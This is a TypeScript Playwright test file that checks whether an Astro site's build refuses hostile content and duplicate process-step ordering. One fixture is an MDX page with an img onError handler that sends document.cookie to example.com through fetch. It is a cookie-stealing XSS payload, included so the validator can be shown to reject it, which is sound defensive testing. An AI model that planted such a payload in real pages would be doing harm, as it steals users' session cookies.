// The build refuses hostile content on its own, even when `npm run check` is
// skipped: a copy of content/ with one hostile addition must fail to build,
// naming the file and the reason.
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test } from '@playwright/test';

const temps: string[] = [];
test.afterAll(() => temps.forEach((d) => rmSync(d, { recursive: true, force: true })));

/** Builds content/ plus `extra` files; returns the exit status and all output. */
function buildWith(extra: Record<string, string>): { status: number | null; output: string } {
  const dir = mkdtempSync(path.join(tmpdir(), 'hostile-'));
  temps.push(dir);
  const content = path.join(dir, 'content');
  cpSync('content', content, { recursive: true });
  for (const [rel, text] of Object.entries(extra)) writeFileSync(path.join(content, rel), text);
  const r = spawnSync(process.execPath, ['node_modules/astro/bin/astro.mjs', 'build'], {
    env: { ...process.env, ASTRO_TELEMETRY_DISABLED: '1', CONTENT_DIR: content, OUT_DIR: path.join(dir, 'dist') },
    encoding: 'utf8',
    timeout: 300_000,
  });
  return { status: r.status, output: `${r.stdout}\n${r.stderr}` };
}

const owner = () => {
  const unit = readdirSync('content/aktorer').find((f) =>
    /^kind: stadens-enhet/m.test(readFileSync(`content/aktorer/${f}`, 'utf8')),
  );
  return unit!.replace(/\.ya?ml$/, '');
};

test.describe('the build refuses hostile content', () => {
  test.describe.configure({ timeout: 300_000 });
  test('an MDX page with an event handler and an image from another host', () => {
    const page = [
      '---',
      'title: Fientlig sida',
      'summary: En sida som bygget ska vägra publicera.',
      `owner: ${owner()}`,
      'reviewed: 2026-01-15',
      '---',
      '',
      'Text.',
      '',
      '<img src="/favicon.svg" alt="Ikon" onError="fetch(`https://example.com/?c=${document.cookie}`)" />',
      '',
      '![Karta](https://example.com/karta.png)',
      '',
    ].join('\n');
    const { status, output } = buildWith({ 'sidor/fientlig-sida.mdx': page });
    expect(status).not.toBe(0);
    expect(output).toMatch(/sidor\/fientlig-sida\.mdx:\d+\s+html\s+attributet onError kör kod/);
  });

  test('two steps with the same order in one phase', () => {
    const steps = readdirSync('content/processkarta/steg').sort();
    const copy = readFileSync(`content/processkarta/steg/${steps[0]}`, 'utf8').replace(
      /^title: .*/m,
      'title: Ett kopierat steg',
    );
    const { status, output } = buildWith({ 'processkarta/steg/zz-kopia.yaml': copy });
    expect(status).not.toBe(0);
    expect(output).toMatch(/zz-kopia\.yaml\s+order\s+order \d+ finns redan i fasen/);
  });
});
